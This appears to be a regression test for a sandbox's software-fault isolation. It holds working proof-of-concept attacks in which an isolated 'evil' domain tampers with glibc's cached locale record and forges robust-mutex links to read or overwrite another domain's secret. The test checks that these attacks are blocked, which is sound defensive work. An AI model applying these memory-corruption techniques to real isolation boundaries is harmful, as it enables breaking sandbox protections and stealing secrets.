// libstdc++ is trusted and unchecked, and calls libc on a domain's behalf
// (attack round 17; domain `evil` has no grant):
// - locale, setlocale: std::locale("C.UTF-8") made libstdc++ call glibc's
//   __newlocale, outside any libc-state window, so the LC_NUMERIC record
//   glibc caches landed in evil's heap; evil pointed its grouping at
//   vault's secret and the next std::locale copied the secret out (mode
//   locale), or pointed its decimal point there and printf, after a
//   setlocale that reused the record, printed it (mode setlocale). The
//   locale functions now run in a window for every caller (and refuse
//   instrumented ones: loader/sfi_unknown.c).
// - condvar: std::condition_variable::wait, libstdc++'s code, handed glibc
//   the std::mutex object itself, not the loader's shadow; evil had made
//   the object robust with links of its choosing and the unlock's unlink
//   wrote over vault's secret. Uninstrumented code now gets the shadow of
//   a mutex that has one (loader/sfi_mutex.c).
// Control: under `none` every mode steals or writes. The loader says at
// start that libstdc++ is not instrumented (what stays open:
// attack-sfi-libstdcxx-trusted.cpp).
// RUN: %dipc-clang++ -fdipc -fdipc-sfi -O2 %s -o %t -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t locale 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t setlocale 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t condvar 2>&1 | FileCheck %s --check-prefix=SFI-CONDVAR
// RUN: %dipc-bin-dir/dipc-run --backend=none %t locale 2>&1 | FileCheck %s --check-prefix=NONE
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t locale 2>&1 >/dev/null | FileCheck %s --check-prefix=WARN
// RUN: %dipc-bin-dir/dipc-run --backend=none %t setlocale 2>&1 | FileCheck %s --check-prefix=NONE
// RUN: %dipc-bin-dir/dipc-run --backend=none %t condvar 2>&1 | FileCheck %s --check-prefix=NONE-CONDVAR
// SFI-NOT: vault-secret
// SFI: evil returned {{-?[0-9]+}}
// NONE: evil {{found in its heap|snprintf gave}}: '{{1?}}vault-secret-42
// WARN: dipc-loader: sfi: warning: the program calls libstdc++, which is not instrumented: C++ code in a named domain is not isolated
// SFI-CONDVAR: (intact)
// NONE-CONDVAR: (CHANGED)
#include <dipc.h>
#include <locale.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <atomic>
#include <condition_variable>
#include <locale>
#include <mutex>

static char vault_secret[32] __dom("vault") = "vault-secret-42";
extern "C" char *vault_address(void) __dom("vault") __entry {
  return vault_secret;
}
extern "C" long vault_peek(void) __dom("vault") __entry {
  long v;
  memcpy(&v, vault_secret, 8);
  return v;
}

static char comma[2] __dom("evil") = ",";
static char got[32] __dom("evil");

/* glibc 2.36's struct __locale_data of LC_NUMERIC: `alloc` at 24,
 * `nstrings` at 48, values[] at 56 (decimal point, thousands separator,
 * grouping). */
static char *find_numeric_record(char *near) __dom("evil");
static char *find_numeric_record(char *near) {
  for (char *b = near - 112 * 16; b <= near + 112 * 16; b += 16) {
    if (b == near)
      continue;
    unsigned alloc = *(unsigned *)(b + 24), nstrings = *(unsigned *)(b + 48);
    long size = *(long *)(b + 16);
    if (alloc == 1 && nstrings == 6 && size > 0 && size < (1 << 20) &&
        *(void **)(b + 8) && *(void **)b)
      return b;
  }
  return NULL;
}

static void say(const char *what) __dom("evil");
static void say(const char *what) {
  (void)!write(1, what, strlen(what));
  (void)!write(1, got, strnlen(got, 31));
  (void)!write(1, "'\n", 2);
}

extern "C" long evil_locale(char *secret, int via_setlocale)
    __dom("evil") __entry;
extern "C" long evil_locale(char *secret, int via_setlocale) {
  std::locale *first = new std::locale("C.UTF-8");
  (void)first;
  char *rec = find_numeric_record((char *)malloc(112));
  if (!rec)
    return -1;
  if (via_setlocale) {
    if (!setlocale(LC_NUMERIC, "C.UTF-8"))
      return -2;
    *(const char **)(rec + 56) = secret; /* the decimal point */
    char out[64];
    snprintf(out, sizeof out, "%.1f", 1.5);
    memcpy(got, out, 31);
    say("evil snprintf gave: '");
    return 2;
  }
  *(const char **)(rec + 56 + 8) = comma;   /* the thousands separator */
  *(const char **)(rec + 56 + 16) = secret; /* the grouping */
  std::locale *second = new std::locale("C.UTF-8");
  (void)second;
  /* the grouping's copy: a new[] of 16 bytes in evil's heap */
  char *near = (char *)malloc(16);
  for (char *p = near - 4096; p < near + 4096; p += 16)
    if (p[0] == 'v' && p[1] == 'a' && p[5] == '-' && p != secret) {
      memcpy(got, p, 16);
      say("evil found in its heap: '");
      return 1;
    }
  return 0;
}

static std::mutex mx __dom("evil");
static std::condition_variable *cvp __dom("evil");
static std::atomic<int> done __dom("evil");
static uintptr_t landing[4] __dom("evil");
alignas(std::condition_variable) static char
    cvbuf[sizeof(std::condition_variable)] __dom("evil");

static void *notifier(void *) __dom("evil");
static void *notifier(void *) {
  while (!done.load()) {
    cvp->notify_all();
    usleep(1000);
  }
  return nullptr;
}

extern "C" long evil_condvar(char *secret) __dom("evil") __entry;
extern "C" long evil_condvar(char *secret) {
  std::condition_variable &cv = *new (cvbuf) std::condition_variable;
  cvp = &cv;
  pthread_t t;
  if (pthread_create(&t, nullptr, notifier, nullptr))
    return -1;
  {
    std::unique_lock<std::mutex> lk(mx);
    pthread_mutex_t *m = mx.native_handle();
    m->__data.__lock = gettid();
    m->__data.__kind = 16; /* PTHREAD_MUTEX_ROBUST_NORMAL_NP */
    m->__data.__list.__next = (__pthread_internal_list *)(secret + 8);
    m->__data.__list.__prev = (__pthread_internal_list *)&landing[1];
    cv.wait(lk);
    done = 1;
    m->__data.__kind = 0;
    m->__data.__lock = 0;
  }
  pthread_join(t, nullptr);
  return 0;
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "locale";
  char *s = vault_address();
  long v0 = vault_peek();
  long r = strcmp(mode, "condvar") == 0
               ? evil_condvar(s)
               : evil_locale(s, strcmp(mode, "setlocale") == 0);
  printf("evil returned %ld, dipc_errno %d\n", r, dipc_errno);
  long v1 = vault_peek();
  printf("vault's first word %s\n", v0 == v1 ? "(intact)" : "(CHANGED)");
  return 0;
}
